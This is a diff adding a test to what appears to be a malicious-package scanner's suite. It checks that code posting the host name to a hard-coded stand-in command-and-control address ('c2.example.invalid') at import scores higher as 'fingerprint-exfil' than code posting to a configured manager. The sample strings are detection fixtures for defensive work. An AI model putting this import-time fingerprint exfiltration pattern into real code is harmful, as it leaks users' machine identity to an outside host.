@@ -770,3 +770,25 @@ def test_a_large_armored_module_is_parsed_so_its_top_level_runs_at_import() -> N
     assert len(armored) > 12 * 1024
     assert findings
     assert {f.phase for f in findings} == {Phase.IMPORT}
+
+
+def test_identity_sent_to_a_configured_destination_weighs_less_than_to_a_written_address() -> None:
+    """An agent reporting its host name to the manager it was given is not a stealer posting it
+    to an address it hides; a literal address held in an attribute is still written down."""
+    code = (
+        "import requests, socket\n"
+        "class Agent:\n"
+        "    def __init__(self, manager):\n        self.manager = self.m = manager\n"
+        "    def report(self):\n"
+        "        {dest}\n"
+        "        requests.post(uri, json={{'host': socket.gethostname()}})\n"
+        "Agent('x').report()\n"
+    )
+    configured = weight(
+        "fingerprint-exfil", {"demo/__init__.py": code.format(dest="uri = self.manager + 'Status'")}
+    )
+    written = weight(
+        "fingerprint-exfil",
+        {"demo/__init__.py": code.format(dest="uri = 'https://c2.example.invalid/' + self.m")},
+    )
+    assert 0 < configured < written
